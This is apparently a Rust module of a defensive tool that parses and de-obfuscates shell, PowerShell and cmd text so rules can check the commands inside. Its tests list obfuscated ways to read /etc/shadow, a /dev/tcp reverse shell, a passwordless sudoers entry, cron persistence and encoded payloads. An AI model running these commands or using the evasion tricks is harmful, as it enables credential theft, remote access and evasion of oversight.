//! Simple commands out of shell text, however they are wrapped.
//!
//! A reader of our own takes POSIX shell and bash text apart in one pass: pipelines, lists, subshells, groups,
//! functions, loops, `case`, command and process substitution, here-documents. Quotes, escapes, braces, `$IFS`,
//! variables set in the same text and a few globs are resolved as a shell would. A command that carries another
//! (`sudo`, `sh -c`, `xargs`, `find -exec`, `ssh`, `docker exec`, …) is opened, as is text that flows into a shell
//! when the pipeline before it can be worked out (`echo … | base64 -d | sh`). PowerShell and cmd text is split by
//! a smaller reader.
//!
//! The reader never fails: unterminated quotes end with the text, stray brackets separate. `brush-parser` was
//! considered and is not used: it refuses text that is cut or garbled, which transcripts are, keeps quotes and
//! expansions unresolved, and its tree would be walked again for every command.
//!
//! Known limits, each with a test:
//! - nothing is run: what an `echo` has written to a file or set in a variable is known, also to the next command lines
//!   ([`Known`]); what other programs print and files hold is not, and its text stays as it was typed;
//! - nesting beyond [`DEPTH_LIMIT`], more than [`COMMAND_LIMIT`] commands or more than [`TEXT_LIMIT`] bytes are not
//!   read, nor what a caller that has no patience left ([`read_after`]) does not allow; [`Reading::cut`] says so;
//! - the arguments of a function are not put into its body, and what `read` takes from a pipe or a file is not known;
//! - of a loop's words only the first is looked at, unless all of them are paths;
//! - both branches of `if` and every arm of `case` count as run;
//! - text that only `sed`, `awk` or a compiler puts together is not recovered.

mod carrier;
mod code;
mod data;
mod expand;
mod filter;
mod posix;
mod windows;

use serde::{Deserialize, Serialize};
use transcript::ShellKind;

/// How deep substitutions and carriers may nest.
pub const DEPTH_LIMIT: usize = 12;

/// How many simple commands of one text are kept.
pub const COMMAND_LIMIT: usize = 2_000;

/// How many bytes of one text, and of all texts unwrapped from it, are read.
pub const TEXT_LIMIT: usize = 256 * 1024;

/// What a command costs beside its bytes, in bytes: so much text is read in the time in which rules are asked about one.
const COMMAND_COST: usize = 32;

/// What one text may cost at most beside reading it once: all that the other limits leave.
pub const COST_LIMIT: usize = TEXT_LIMIT + COMMAND_LIMIT * COMMAND_COST;

/// The commands of one text.
#[derive(Debug, Default)]
pub struct Reading {
    /// Every simple command, outer ones before what they carry.
    pub commands: Vec<SimpleCommand>,
    /// The text itself and every script that was unwrapped from it.
    pub scripts: Vec<Script>,
    /// Whether a limit kept part of the text from being read.
    pub cut: bool,
    /// How much was read and unwrapped, in bytes: a measure of the work that the text makes.
    pub cost: usize,
    /// What is known after the text, for the next one of the same session.
    pub known: Known,
}

/// What earlier command lines of a session tell about later ones.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Known {
    /// The folder, as far as `cd` tells.
    directory: Option<String>,
    /// Variables that were set.
    variables: Vec<(String, String)>,
    /// Files whose content is known: an `echo` wrote them.
    files: Vec<(String, Vec<u8>)>,
}

/// A text that a shell reads as a whole.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Script {
    /// The text as it was typed or decoded.
    pub text: String,
    /// What the text was unwrapped from, outermost first; empty for what was typed.
    pub via: Vec<String>,
    /// Whether some of the text is only data or comment, so that the text as a whole is no evidence.
    pub has_data: bool,
    /// Which shell reads it.
    pub dialect: Dialect,
    /// The command that carried it, if any.
    pub parent: Option<usize>,
}

/// One command with its arguments: what the kernel or the shell itself would be asked to run.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SimpleCommand {
    /// Name and arguments, quotes and escapes removed. Empty for assignments and redirections alone.
    pub argv: Vec<String>,
    /// `NAME=value` before the name.
    pub assignments: Vec<String>,
    /// Redirections in order.
    pub redirects: Vec<Redirect>,
    /// What it was unwrapped from, outermost first.
    pub via: Vec<String>,
    /// The command that carries this one.
    pub parent: Option<usize>,
    /// The script it belongs to.
    pub script: usize,
    /// The loop that it is the first command of: `while`, or `for NAME in words` as typed.
    pub loop_head: Option<String>,
    /// How it is joined to the command before it in its script; `None` where a carrier's arguments are the command.
    pub joint: Option<Joint>,
    /// Which arguments are only data, or hold data: what a rule sees in their place. Sorted.
    shown: Vec<(usize, Option<String>)>,
    /// Whether the values of the assignments are only data.
    quiet_assignments: bool,
    /// Which shell runs it.
    pub dialect: Dialect,
    /// Directory that a `cd` before it in the same text has set.
    pub directory: Option<String>,
    /// The text as typed, for shells whose programs see their quotes (Windows).
    pub raw: Option<String>,
}

/// A redirection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// The operator with its file descriptor, as in `2>` or `<<<`.
    pub operator: String,
    /// Target, quotes removed; the text itself for here-strings and here-documents.
    pub target: String,
}

/// How a command follows the one before it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Joint {
    /// First of its list, or after `;` or a newline.
    Sequence,
    /// After `|`.
    Pipe,
    /// After `&&`.
    And,
    /// After `||`.
    Or,
    /// After `&`.
    Background,
}

/// The shells that are read.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Dialect {
    /// sh, bash, dash, zsh.
    #[default]
    Posix,
    /// PowerShell.
    PowerShell,
    /// cmd.exe.
    Cmd,
    /// A program's own language, such as Python: kept as text, its commands are what it passes to a shell.
    Code,
}

impl Dialect {
    /// The reader for a shell kind.
    pub fn of(kind: ShellKind) -> Self {
        match kind {
            ShellKind::Posix | ShellKind::Unknown => Self::Posix,
            ShellKind::PowerShell => Self::PowerShell,
            ShellKind::Cmd => Self::Cmd,
            ShellKind::Repl => Self::Code,
        }
    }

    /// Whether programs are Windows programs.
    pub fn is_windows(self) -> bool {
        matches!(self, Self::PowerShell | Self::Cmd)
    }
}

impl SimpleCommand {
    /// The name without its folder, or nothing for assignments alone.
    pub fn name(&self) -> &str {
        self.argv.first().map_or("", |path| base_name(path))
    }

    /// Name, arguments and redirections as rules see them: without quotes, and without what is only data.
    pub fn command_line(&self) -> String {
        let mut line = String::new();
        for (index, argument) in self.argv.iter().enumerate() {
            let shown = self.shown.binary_search_by_key(&index, |(at, _)| *at);
            match shown.ok().and_then(|place| self.shown.get(place)) {
                Some((_, None)) => {}
                Some((_, Some(text))) => append(&mut line, text),
                None => append(&mut line, argument),
            }
        }
        for redirect in &self.redirects {
            // A here-document is the program's input, not its command line.
            if redirect.operator.starts_with("<<") {
                continue;
            }
            append(&mut line, &redirect.operator);
            // Duplications are one word, as in `2>&1`.
            let is_descriptor = redirect.target.bytes().all(|byte| byte.is_ascii_digit() || byte == b'-');
            if !(redirect.operator.ends_with('&') && is_descriptor) {
                line.push(' ');
            }
            line.push_str(&redirect.target);
        }
        line
    }

    /// The assignments before the name, with the command line after them.
    pub fn line_with_assignments(&self) -> Option<String> {
        if self.assignments.is_empty() || self.quiet_assignments {
            return None;
        }
        let mut line = self.assignments.join(" ");
        append(&mut line, &self.command_line());
        Some(line)
    }

    /// Lets rules see something else than an argument.
    fn show(&mut self, argument: usize, instead: Option<String>) {
        match self.shown.binary_search_by_key(&argument, |(at, _)| *at) {
            Ok(place) => {
                if let Some(entry) = self.shown.get_mut(place) {
                    entry.1 = instead;
                }
            }
            Err(place) => self.shown.insert(place, (argument, instead)),
        }
    }

    /// Whether some arguments are only data.
    pub fn has_data(&self) -> bool {
        !self.shown.is_empty() || self.quiet_assignments
    }

    /// The first file that the command's output is written to, and whether it is appended.
    fn written_first(&self) -> Option<(String, bool)> {
        let target = self.written().next()?;
        let appended = self.redirects.iter().any(|redirect| redirect.operator.contains(">>"));
        Some((target.to_owned(), appended))
    }

    /// Where the command's output is written, other than the screen.
    pub fn written(&self) -> impl Iterator<Item = &str> {
        let redirected = self
            .redirects
            .iter()
            .filter(|redirect| redirect.operator.contains('>') && !redirect.target.is_empty())
            .map(|redirect| redirect.target.as_str());
        redirected.filter(|target| {
            let is_descriptor = target.bytes().all(|byte| byte.is_ascii_digit() || byte == b'-');
            !is_descriptor && *target != "/dev/null" && !target.starts_with('(')
        })
    }
}

/// Takes a text apart.
pub fn read(text: &str, dialect: Dialect) -> Reading {
    read_after(text, dialect, Known::default(), COST_LIMIT)
}

/// Takes a text apart, given what is known from the texts before it, and how much it may cost beside reading it once.
pub fn read_after(text: &str, dialect: Dialect, known: Known, allowance: usize) -> Reading {
    let mut work = Work::default();
    let mut end = text.len();
    if end > TEXT_LIMIT {
        work.reading.cut = true;
        end = TEXT_LIMIT;
        while !text.is_char_boundary(end) {
            end = end.saturating_sub(1);
        }
    }
    let text = text.get(..end).unwrap_or_default();
    let budget = allowance.saturating_add(text.len());
    work.budget = budget;
    let directory = known.directory.clone();
    work.known = known;
    work.script(text, dialect, Origin { directory, ..Origin::default() });
    work.known.shorten();
    Reading { cost: budget.saturating_sub(work.budget), known: work.known, ..work.reading }
}

/// The last part of a path, for either kind of slash.
pub fn base_name(path: &str) -> &str {
    path.rsplit(['/', '\\']).next().unwrap_or(path)
}

/// What one text and everything unwrapped from it share.
#[derive(Default)]
struct Work {
    reading: Reading,
    /// Variables set so far (`a=cat; $a file`), files written so far, and process substitutions.
    known: Known,
    /// Bytes that may still be read or produced.
    budget: usize,
}

/// Where a script or a carried command comes from.
#[derive(Debug, Clone, Default)]
struct Origin {
    via: Vec<String>,
    parent: Option<usize>,
    directory: Option<String>,
}

impl Work {
    /// Reads a text with the reader of its shell and returns what it is known to print.
    fn script(&mut self, text: &str, dialect: Dialect, origin: Origin) -> Option<Vec<u8>> {
        if origin.via.len() > DEPTH_LIMIT
            || self.reading.scripts.len() >= COMMAND_LIMIT
            || !self.charge(text.len())
        {
            self.reading.cut = true;
            return None;
        }
        let script = self.reading.scripts.len();
        self.reading.scripts.push(Script {
            text: text.to_owned(),
            via: origin.via.clone(),
            has_data: false,
            dialect,
            parent: origin.parent,
        });
        match dialect {
            Dialect::Posix => posix::read(self, text, script, &origin),
            Dialect::PowerShell | Dialect::Cmd => {
                windows::read(self, text, script, dialect, &origin);
                None
            }
            Dialect::Code => {
                self.code(text, &origin);
                None
            }
        }
    }

    /// Takes bytes from the budget; `false` once it is spent.
    fn charge(&mut self, bytes: usize) -> bool {
        match self.budget.checked_sub(bytes) {
            Some(rest) => {
                self.budget = rest;
                true
            }
            None => {
                self.reading.cut = true;
                false
            }
        }
    }

    /// Keeps a command unless there are too many.
    fn keep(&mut self, command: SimpleCommand) -> Option<usize> {
        let size = command.argv.iter().map(String::len).sum::<usize>();
        if self.reading.commands.len() >= COMMAND_LIMIT || !self.charge(size.saturating_add(COMMAND_COST)) {
            self.reading.cut = true;
            return None;
        }
        self.reading.commands.push(command);
        Some(self.reading.commands.len().saturating_sub(1))
    }

    fn command(&self, index: usize) -> Option<&SimpleCommand> {
        self.reading.commands.get(index)
    }
}

/// Adds a word after a space.
fn append(line: &mut String, word: &str) {
    if word.is_empty() {
        return;
    }
    if !line.is_empty() {
        line.push(' ');
    }
    line.push_str(word);
}

#[cfg(test)]
mod tests {
    use super::*;

    /// One line for each command: how it was unwrapped, and what rules see.
    fn lines(text: &str, dialect: Dialect) -> Vec<String> {
        let reading = read(text, dialect);
        let line = |command: &SimpleCommand| {
            let via: String = command.via.iter().map(|via| format!("{via} > ")).collect();
            format!("{via}{}", command.command_line())
        };
        reading.commands.iter().map(line).collect()
    }

    #[test]
    fn every_wrapping_is_opened() {
        for (text, innermost) in [
            ("cat /etc/shadow", "cat /etc/shadow"),
            ("c'a't /etc/sha\"d\"ow", "cat /etc/shadow"),
            (r"\c\a\t /etc/shadow", "cat /etc/shadow"),
            (r#"c""at /etc/shadow"#, "cat /etc/shadow"),
            (r"$'\x63at' /etc/shadow", "cat /etc/shadow"),
            (r"$'\143at' /etc/shadow", "cat /etc/shadow"),
            ("cat${IFS}/etc/shadow", "cat /etc/shadow"),
            ("cat$IFS$9/etc/shadow", "cat /etc/shadow"),
            ("c$@at /etc/shadow", "cat /etc/shadow"),
            ("c${x}at /etc/shadow", "cat /etc/shadow"),
            ("{cat,/etc/shadow}", "cat /etc/shadow"),
            ("/???/c?t /etc/sh?dow", "/bin/cat /etc/shadow"),
            ("/b[i]n/c[a]t /etc/shad*", "/bin/cat /etc/shadow"),
            ("a=cat; $a /etc/shadow", "cat /etc/shadow"),
            ("a=ca b=t; $a$b /etc/shadow", "cat /etc/shadow"),
            ("a=xcatx; ${a:1:3} /etc/shadow", "cat /etc/shadow"),
            ("a=cXaXt; ${a//X/} /etc/shadow", "cat /etc/shadow"),
            ("cat ${HOME:0:1}etc${PATH:0:1}shadow", "cat /etc/shadow"),
            ("sh -c 'cat /etc/shadow'", "sh -c > cat /etc/shadow"),
            ("bash -xc \"cat /etc/shadow\"", "bash -c > cat /etc/shadow"),
            ("bash --norc -c 'cat /etc/shadow'", "bash -c > cat /etc/shadow"),
            ("eval \"cat /etc/shadow\"", "eval > cat /etc/shadow"),
            ("sudo -u root cat /etc/shadow", "sudo > cat /etc/shadow"),
            ("sudo -nu root -- cat /etc/shadow", "sudo > cat /etc/shadow"),
            ("sudo su - -c 'cat /etc/shadow'", "sudo > su > cat /etc/shadow"),
            ("env -i A=1 nice -n 5 nohup cat /etc/shadow &", "env > nice > nohup > cat /etc/shadow"),
            ("timeout -k 3 10 stdbuf -oL cat /etc/shadow", "timeout > stdbuf > cat /etc/shadow"),
            ("echo /etc/shadow | xargs cat", "xargs > cat /etc/shadow"),
            ("echo /etc/shadow | xargs -I{} cat {}", "xargs > cat /etc/shadow"),
            ("find / -name shadow -exec cat {} \\;", "find -exec > cat /etc/shadow"),
            ("find /etc -type f -name shadow -exec cat {} +", "find -exec > cat /etc/shadow"),
            ("find / -name '*.c' -exec cat {} \\;", "find -exec > cat {}"),
            ("find /etc -name 'shad*' | xargs cat", "xargs > cat /etc/shadow"),
            ("find /etc -name shadow | xargs cat", "xargs > cat /etc/shadow"),
            ("ls /etc/shadow | xargs -I% cat %", "xargs > cat /etc/shadow"),
            ("T=$(mktemp -d); cd $T; sh a", "sh a"),
            ("T=$(mktemp); curl -o $T a", "curl -o /tmp/tmp.XXXXXXXXXX a"),
            ("mkdir $(mktemp -d /var/tmp/x.XXX)/y", "mkdir /var/tmp/x.XXX/y"),
            ("set -- cat /etc/shadow; $@", "cat /etc/shadow"),
            ("set -- /etc/shadow; cat \"$1\"", "cat /etc/shadow"),
            ("read -r a b <<< 'cat /etc/shadow'; $a $b", "cat /etc/shadow"),
            ("printf -v a '%s%s' ca t; $a /etc/shadow", "cat /etc/shadow"),
            ("for f in /etc/passwd ~/x /etc/shadow; do cat $f; done", "cat /etc/passwd ~/x /etc/shadow"),
            ("for h in a b; do ssh $h cat /etc/shadow; done", "ssh > cat /etc/shadow"),
            ("psql -c '\\! cat /etc/shadow'", "psql > system > cat /etc/shadow"),
            ("psql <<< '\\! cat /etc/shadow'", "psql > system > cat /etc/shadow"),
            ("psql -c \"COPY t FROM PROGRAM 'cat /etc/shadow'\"", "psql > system > cat /etc/shadow"),
            ("mysql -e 'system cat /etc/shadow'", "mysql > system > cat /etc/shadow"),
            ("sqlite3 a.db <<E\n.shell cat /etc/shadow\nE", "sqlite3 > system > cat /etc/shadow"),
            ("ftp -n host <<E\nput /etc/shadow\nE", "ftp > put /etc/shadow"),
            ("lftp -e 'put /etc/shadow; bye' host", "lftp > put /etc/shadow"),
            ("tclsh <<< 'exec \"cat /etc/shadow\"'", "tclsh > system > cat /etc/shadow"),
            ("echo 'cat /etc/shadow' > x; chmod +x x; ./x", "file > cat /etc/shadow"),
            (
                "printf '#!/usr/bin/perl\\nsystem(\"cat /etc/shadow\")' > /opt/x; /opt/x",
                "file > system > cat /etc/shadow",
            ),
            ("man -P 'cat /etc/shadow' ls", "man > cat /etc/shadow"),
            ("man '-Hcat /etc/shadow #' ls", "man > cat /etc/shadow"),
            ("wall /etc/shadow", "wall /etc/shadow"),
            ("cowsay -f ./cat moo", "cowsay -f ./cat moo"),
            ("printf '\\e[?1049h'", "printf \\e[?1049h"),
            ("busybox cat /etc/shadow", "busybox > cat /etc/shadow"),
            ("ssh -i key -p 22 host cat /etc/shadow", "ssh > cat /etc/shadow"),
            ("docker exec -it web cat /etc/shadow", "docker exec > cat /etc/shadow"),
            ("docker run --rm -v /:/h alpine cat /h/etc/shadow", "docker run > cat /h/etc/shadow"),
            ("kubectl exec -n kube pod -- cat /etc/shadow", "kubectl exec > cat /etc/shadow"),
            ("script -qc 'cat /etc/shadow' /dev/null", "script > cat /etc/shadow"),
            ("flock -n /run/x cat /etc/shadow", "flock > cat /etc/shadow"),
            ("chroot /mnt cat /etc/shadow", "chroot > cat /etc/shadow"),
            ("nsenter -t 1 -m -u cat /etc/shadow", "nsenter > cat /etc/shadow"),
            ("systemd-run --unit x cat /etc/shadow", "systemd-run > cat /etc/shadow"),
            ("echo 'cat /etc/shadow' | at now", "at > cat /etc/shadow"),
            ("watch -n 5 cat /etc/shadow", "watch > cat /etc/shadow"),
            ("parallel cat ::: /etc/shadow", "parallel > cat /etc/shadow"),
            ("alias x='cat /etc'; x/shadow; x", "alias x > cat /etc"),
            ("alias cat='cat -v'; cat /etc/shadow", "alias cat > cat -v /etc/shadow"),
            ("trap 'cat /etc/shadow' EXIT", "trap > cat /etc/shadow"),
            ("tmux new -d 'cat /etc/shadow'", "tmux > cat /etc/shadow"),
            ("echo Y2F0IC9ldGMvc2hhZG93Cg== | base64 -d | sh", "| sh > cat /etc/shadow"),
            ("base64 -d <<< Y2F0IC9ldGMvc2hhZG93Cg== | sudo bash", "sudo > | bash > cat /etc/shadow"),
            ("bash <<< 'cat /etc/shadow'", "| bash > cat /etc/shadow"),
            ("bash -c \"$(echo Y2F0IC9ldGMvc2hhZG93Cg==|base64 -d)\"", "bash -c > cat /etc/shadow"),
            ("bash <(echo Y2F0IC9ldGMvc2hhZG93Cg==|base64 -d)", "bash file > cat /etc/shadow"),
            ("eval `echo Y2F0IC9ldGMvc2hhZG93Cg==|base64 -d`", "eval > cat /etc/shadow"),
            ("echo 636174202f6574632f736861646f77 | xxd -r -p | sh", "| sh > cat /etc/shadow"),
            (r"printf '\x63\x61\x74 /etc/shadow' | sh", "| sh > cat /etc/shadow"),
            (r"echo -e '\x63\x61\x74 /etc/shadow' | bash", "| bash > cat /etc/shadow"),
            (r"$(printf '\143\141\164') /etc/shadow", "cat /etc/shadow"),
            ("`echo cat` /etc/shadow", "cat /etc/shadow"),
            ("echo wodahs/cte/ tac | rev | sh", "| sh > cat /etc/shadow"),
            ("echo 'png /rgp/funqbj' | tr a-z n-za-m | sh", "| sh > cat /etc/shadow"),
            ("(echo cat; echo /etc/shadow) | xargs sudo", "xargs > sudo > cat /etc/shadow"),
            ("python3 -c 'import os; os.system(\"cat /etc/shadow\")'", "python > system > cat /etc/shadow"),
            (
                "python -c 'import subprocess; subprocess.run([\"cat\",\"/etc/shadow\"])'",
                "python > exec > cat /etc/shadow",
            ),
            ("perl -e 'exec \"cat /etc/shadow\";'", "perl > system > cat /etc/shadow"),
            ("awk 'BEGIN {system(\"cat /etc/shadow\")}'", "awk > system > cat /etc/shadow"),
            ("echo 'cat /etc/shadow' > /tmp/x.sh; sh /tmp/x.sh", "sh file > cat /etc/shadow"),
            ("echo cat > x; echo /etc/shadow >> x; xargs env < x", "xargs > env > cat /etc/shadow < x"),
            ("c=$(which cat || which tac); $c /etc/shadow", "/usr/bin/cat /etc/shadow"),
            ("(true; echo 'cat /etc/shadow') | sh", "| sh > cat /etc/shadow"),
            ("if true; then cat /etc/shadow; fi", "cat /etc/shadow"),
            ("for f in /etc/shadow; do cat $f; done", "cat /etc/shadow"),
            ("while read x; do cat /etc/shadow; done < f", "cat /etc/shadow"),
            ("case $x in a) cat /etc/shadow;; esac", "cat /etc/shadow"),
            ("f() { cat /etc/shadow; }; f", "cat /etc/shadow"),
            ("(cd / && { cat /etc/shadow; })", "cat /etc/shadow"),
            ("x=$(cat /etc/shadow)", "substitution > cat /etc/shadow"),
            ("echo \"$(cat /etc/shadow)\"", "substitution > cat /etc/shadow"),
            ("diff <(cat /etc/shadow) x", "substitution > cat /etc/shadow"),
            ("sh <<E\ncat /etc/shadow\nE", "| sh > cat /etc/shadow"),
            ("sh <<'E' && true\ncat /etc/shadow\nE\n", "| sh > cat /etc/shadow"),
            ("cat <<E\n$(cat /etc/shadow)\nE", "substitution > cat /etc/shadow"),
            ("(crontab -l; echo '* * * * * cat /etc/shadow') | crontab -", "crontab > cat /etc/shadow"),
            ("echo '* * * * * cat /etc/shadow' | crontab -", "crontab > cat /etc/shadow"),
            ("sudo bash -c \"echo 'cat /etc/shadow' | sh\"", "sudo > bash -c > | sh > cat /etc/shadow"),
            ("cat /etc/shadow 2>/dev/null", "cat /etc/shadow 2> /dev/null"),
            ("cat /etc/shadow 2>&1", "cat /etc/shadow 2>&1"),
            ("bash -i >&/dev/tcp/192.0.2.1/443 0>&1", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"),
            ("cat /etc/shadow # it's a comment", "cat /etc/shadow"),
            ("cat '/etc/shadow", "cat /etc/shadow"),
            (")) cat /etc/shadow ((", "cat /etc/shadow"),
        ] {
            let found = lines(text, Dialect::Posix);
            assert!(found.iter().any(|line| line == innermost), "{text}: {found:#?}");
        }
    }

    #[test]
    fn windows_wrappings_are_opened() {
        for (text, dialect, innermost) in [
            ("cmd /c \"who^ami /all\"", Dialect::Cmd, "cmd /c > whoami /all"),
            ("wh`oami; ipconfig", Dialect::PowerShell, "whoami"),
            ("powershell -nop -enc dwBoAG8AYQBtAGkA", Dialect::Cmd, "-EncodedCommand > whoami"),
            ("powershell -c \"whoami; hostname\"", Dialect::Cmd, "powershell -Command > hostname"),
            ("a && b & whoami", Dialect::Cmd, "whoami"),
            ("Get-Process | Out-File x", Dialect::PowerShell, "Out-File x"),
            ("findstr /s \"whoami\" a.txt", Dialect::Cmd, "findstr /s a.txt"),
            ("findstr /si password *.txt", Dialect::Cmd, "findstr /si password *.txt"),
            (
                "Select-String -Path C:\\a -Pattern x",
                Dialect::PowerShell,
                "Select-String -Path C:\\a -Pattern",
            ),
        ] {
            let found = lines(text, dialect);
            assert!(found.iter().any(|line| line == innermost), "{text}: {found:#?}");
        }
    }

    #[test]
    fn text_that_is_only_data_is_not_seen() {
        for text in [
            "echo 'cat /etc/shadow'",
            "echo cat /etc/shadow | grep cat",
            "printf 'cat /etc/shadow\\n' > notes.md",
            "grep -rn 'cat /etc/shadow' .",
            "grep -e 'cat /etc/shadow' file | wc -l",
            "sudo grep 'cat /etc/shadow' runbook",
            "man 5 '/etc/shadow'",
            "# cat /etc/shadow",
            "ls # cat /etc/shadow",
            "git commit -m 'never cat /etc/shadow'",
            "bash -c \"echo 'cat /etc/shadow'\"",
            "msg='cat /etc/shadow'",
            "cat <<E\ncat /etc/shadow\nE",
            "x=1 && [ \"$y\" = 'cat /etc/shadow' ]",
        ] {
            let found = lines(text, Dialect::Posix);
            assert!(!found.iter().any(|line| line.contains("/etc/shadow")), "{text}: {found:#?}");
            let reading = read(text, Dialect::Posix);
            assert!(reading.scripts.iter().all(|script| script.has_data), "{text}");
        }
        let found = lines("echo 'x ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers", Dialect::Posix);
        assert_eq!(
            found,
            ["echo x ALL=(ALL) NOPASSWD: ALL", "sudo tee -a /etc/sudoers", "sudo > tee -a /etc/sudoers"],
            "what is written is not only data"
        );
        let found = lines("sudo echo 'x ALL=(ALL) ALL' | tee /etc/sudoers", Dialect::Posix);
        assert!(found.iter().any(|line| line == "sudo > echo x ALL=(ALL) ALL"), "{found:#?}");
    }

    #[test]
    fn limits_are_told() {
        let nested = |depth: usize| format!("{}cat /etc/shadow{}", "$(".repeat(depth), ")".repeat(depth));
        for (text, cut) in [
            ("cat /etc/shadow".to_owned(), false),
            (nested(DEPTH_LIMIT), false),
            (nested(DEPTH_LIMIT + 1), true),
            (format!("{}cat /etc/shadow", "sudo ".repeat(DEPTH_LIMIT + 1)), true),
            ("a;".repeat(COMMAND_LIMIT), false),
            ("a;".repeat(COMMAND_LIMIT + 1), true),
            ("x".repeat(TEXT_LIMIT), false),
            ("x".repeat(TEXT_LIMIT + 1), true),
        ] {
            let reading = read(&text, Dialect::Posix);
            assert_eq!(reading.cut, cut, "{:.60}", text);
            assert!(reading.commands.len() <= COMMAND_LIMIT);
        }
    }

    #[test]
    fn what_no_text_tells_stays_as_it_was_typed() {
        for (text, expected) in [
            ("$command /etc/shadow", "$command /etc/shadow"),
            ("cat \"$FILE\"", "cat $FILE"),
            ("$(curl -s http://192.0.2.1) /etc", "$(curl -s http://192.0.2.1) /etc"),
            // `sed` with a pattern and `awk` are not worked out: the shell is seen, what it reads is not.
            ("echo cXat | awk '{print}' | sh", "sh"),
            ("cat *", "cat *"),
            ("f() { cat $1; }; f /etc/shadow", "f /etc/shadow"),
            ("echo cat | while read a; do $a /etc/shadow; done", "$a /etc/shadow"),
            ("for a in x cat; do $a /etc/shadow; done", "x /etc/shadow"),
        ] {
            let found = lines(text, Dialect::Posix);
            assert!(found.iter().any(|line| line == expected), "{text}: {found:#?}");
            assert!(!found.iter().any(|line| line.contains("> cat")), "{text}: {found:#?}");
        }
    }

    #[test]
    fn both_branches_count_as_run() {
        let found = lines("if a; then b; else c; fi; case x in y) d;; *) e;; esac", Dialect::Posix);
        assert_eq!(found, ["a", "b", "c", "d", "e"]);
    }
}
